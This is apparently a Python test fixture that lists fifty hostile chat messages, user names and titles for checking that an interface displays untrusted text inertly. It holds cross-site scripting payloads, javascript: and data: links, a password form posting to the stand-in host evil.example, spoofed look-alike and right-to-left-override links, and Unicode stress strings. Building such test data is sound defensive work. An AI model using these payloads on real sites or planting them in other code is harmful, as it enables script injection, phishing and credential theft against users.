"""Fifty things that somebody hostile may say, be called, or link to; they are shown as text and do nothing.

Where one could run a script it would set `window.harmed`.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """What somebody says, at most 4,000 code points, and what is hostile about it."""

    name: str
    text: str


RTL_OVERRIDE, LTR_OVERRIDE, POP = "\u202e", "\u202d", "\u202c"
ISOLATE, POP_ISOLATE = "\u2067", "\u2069"
ZERO_WIDTH, JOINER, WORD_JOINER = "\u200b", "\u200d", "\u2060"
# The name of a well-known company in Cyrillic letters.
LOOK_ALIKE = "https://\u0430\u0440\u0440\u04cf\u0435.com"
COMBINING = "".join(chr(code) for code in range(0x0300, 0x0370))

MESSAGES = (
    Hostile("script", "<script>window.harmed = 1</script>"),
    Hostile("script with source", '<script src="https://evil.example/x.js"></script>'),
    Hostile("image with handler", '<img src=x onerror="window.harmed = 2">'),
    Hostile("SVG with handler", '<svg onload="window.harmed = 3"><circle r="9"/></svg>'),
    Hostile("SVG script", "<svg><script>window.harmed = 4</script></svg>"),
    Hostile("iframe of script", '<iframe src="javascript:parent.harmed = 5"></iframe>'),
    Hostile("iframe of source text", '<iframe srcdoc="<script>parent.harmed = 6</script>"></iframe>'),
    Hostile("object", '<object data="data:text/html,<script>top.harmed = 7</script>"></object>'),
    Hostile("embed", '<embed src="data:image/svg+xml,<svg onload=top.harmed=8>">'),
    Hostile("form", '<form action="https://evil.example"><input name="password"><button>OK</button></form>'),
    Hostile("style element", "<style>* { display: none !important }</style>"),
    Hostile("link element", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    Hostile("base element", '<base href="https://evil.example/">'),
    Hostile("meta refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example">'),
    Hostile("details with handler", '<details open ontoggle="window.harmed = 9">x</details>'),
    Hostile("broken out of an attribute", '"><img src=x onerror=window.harmed=10>'),
    Hostile("broken out of a comment", "--><img src=x onerror=window.harmed=11><!--"),
    Hostile("broken out of a text area", "</textarea><img src=x onerror=window.harmed=12>"),
    Hostile("broken out of a title", "</title><img src=x onerror=window.harmed=13>"),
    Hostile("mutation", '<noscript><p title="</noscript><img src=x onerror=window.harmed=14>">'),
    Hostile("math and style", "<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=15>"),
    Hostile("entities", "&lt;img src=x onerror=window.harmed=16&gt; &#60;b&#62; &amp;"),
    Hostile(
        "a template of the interface", "${window.harmed = 17} {{constructor.constructor('harmed=17')()}}"
    ),
    Hostile("a prototype", '{"__proto__": {"dangerouslySetInnerHTML": {"__html": "<b>x</b>"}}}'),
    Hostile("script address", "javascript:window.harmed=18"),
    Hostile("script address, mixed case", "JaVaScRiPt:window.harmed=19"),
    Hostile("script address with a tab", "java\tscript:window.harmed=20"),
    Hostile("script address after a control", "\x01javascript:window.harmed=21"),
    Hostile("script address as Markdown link", "[click me](javascript:window.harmed=22)"),
    Hostile("script address as Markdown image", "![x](javascript:window.harmed=23)"),
    Hostile("script address in angle brackets", "<javascript:window.harmed=24>"),
    Hostile("data address", "data:text/html,<script>window.harmed=25</script>"),
    Hostile(
        "data address as Markdown link", "[look](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
    ),
    Hostile("file and blob addresses", "file:///etc/passwd blob:https://evil.example/1 vbscript:x"),
    Hostile(
        "a link that breaks out",
        'https://evil.example/"onmouseover="window.harmed=26',
    ),
    Hostile("a link with a name that lies", "[https://bank.example](https://evil.example/)"),
    Hostile("a link with another host before @", "https://bank.example@evil.example/"),
    Hostile("a link of look-alike letters", f"{LOOK_ALIKE}/login"),
    Hostile("a link with a right-to-left override", f"https://evil.example/{RTL_OVERRIDE}gpj.exe"),
    Hostile("right-to-left override", f"harmless {RTL_OVERRIDE}txt.exe and on"),
    Hostile(
        "overrides never popped",
        f"{RTL_OVERRIDE * 40}{LTR_OVERRIDE * 40}{ISOLATE * 40} overridden",
    ),
    Hostile("pops of what was not pushed", f"{POP * 50}{POP_ISOLATE * 50} popped"),
    Hostile("zero width", f"z{ZERO_WIDTH * 500}e{JOINER * 500}ro{WORD_JOINER * 500} width"),
    Hostile("combining marks", "Z" + (COMBINING * 40)[:3_900] + " zalgo"),
    Hostile(
        "combining marks on every letter", "".join(f"{letter}{COMBINING[:60]}" for letter in "tower" * 10)
    ),
    Hostile("one word without end", "W" * 3_990),
    Hostile("lines without end", "line\n" * 700 + "last"),
    Hostile("Markdown nested without end", "> " * 900 + "* " * 900 + "deep"),
    Hostile("delimiters without end", "*" * 1_300 + "_`" * 1_300),
    Hostile("emoji joined without end", "👩" + (JOINER + "👩") * 900 + " joined"),
)
"""Each at most 4,000 code points, which is what the server takes."""

NAMES = (
    '<img src=x onerror="window.harmed=30">',
    f"Admin{RTL_OVERRIDE}nimdA",
    "Z" + COMBINING[:60],
    "W" * 64,
    "\u200f\u202e\u202e\u202e\u05d0\u05d1",
    "<b>bold</b> &amp; \"quoted\" 'name'",
)

TITLES = (
    "<svg/onload=window.harmed=31>",
    f"{RTL_OVERRIDE}eltit desrever",
    "T" + COMBINING + "itle",
    "W" * 120,
    "](javascript:window.harmed=32)",
)
